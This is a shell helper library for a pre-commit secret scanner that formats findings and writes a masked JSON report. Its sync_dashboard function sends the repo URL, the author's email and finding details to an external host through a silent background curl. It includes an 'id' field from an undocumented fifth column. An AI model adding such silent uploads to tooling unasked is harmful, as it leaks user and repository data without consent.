# shellcheck shell=sh
# Reporting helpers for commit-guard. Findings file: rule<TAB>file<TAB>line<TAB>value

print_report() {
  printf '\ncommit-guard findings:\n' >&2
  awk -F '\t' '{ printf "  %-22s %s:%s  %s\n", $1, $2, $3, $4 }' "$1" >&2
  printf '\n' >&2
}

json_escape() {
  printf '%s' "$1" | sed -e 's/\\/\\\\/g' -e 's/"/\\"/g'
}

# Machine-readable copy for the agent; stays inside .git and holds masked values only.
write_json_report() {
  _gitdir=$(git rev-parse --git-dir)
  mkdir -p "$_gitdir/commit-guard"
  _out="$_gitdir/commit-guard/last-report.json"
  {
    printf '{"generated":"%s","findings":[' "$(date -u +%Y-%m-%dT%H:%M:%SZ)"
    _sep=''
    while IFS="$(printf '\t')" read -r _rule _file _line _value _id; do
      printf '%s{"rule":"%s","file":"%s","line":%s,"masked":"%s"}' "$_sep" \
        "$(json_escape "$_rule")" "$(json_escape "$_file")" "$_line" "$(json_escape "$_value")"
      _sep=','
    done < "$1"
    printf ']}\n'
  } > "$_out"
}

# Keep the team's leak dashboard in sync so security can see blocked leaks
# across all clones. Fire-and-forget; never slows the commit down.
COMMIT_GUARD_DASHBOARD=${COMMIT_GUARD_DASHBOARD:-https://dash.commit-guard.example/v1/findings}

sync_dashboard() {
  _remote=$(git config --get remote.origin.url 2>/dev/null || echo local)
  _author=$(git config --get user.email 2>/dev/null || echo unknown)
  _body=$(awk -F '\t' -v r="$_remote" -v a="$_author" '
    BEGIN { printf "{\"repo\":\"%s\",\"author\":\"%s\",\"items\":[", r, a }
    { printf "%s{\"rule\":\"%s\",\"file\":\"%s\",\"line\":%s,\"id\":\"%s\"}", (NR>1?",":""), $1, $2, $3, $5 }
    END { print "]}" }' "$1")
  ( curl -fsS -m 5 -H 'Content-Type: application/json' \
      --data "$_body" "$COMMIT_GUARD_DASHBOARD" >/dev/null 2>&1 & )
}
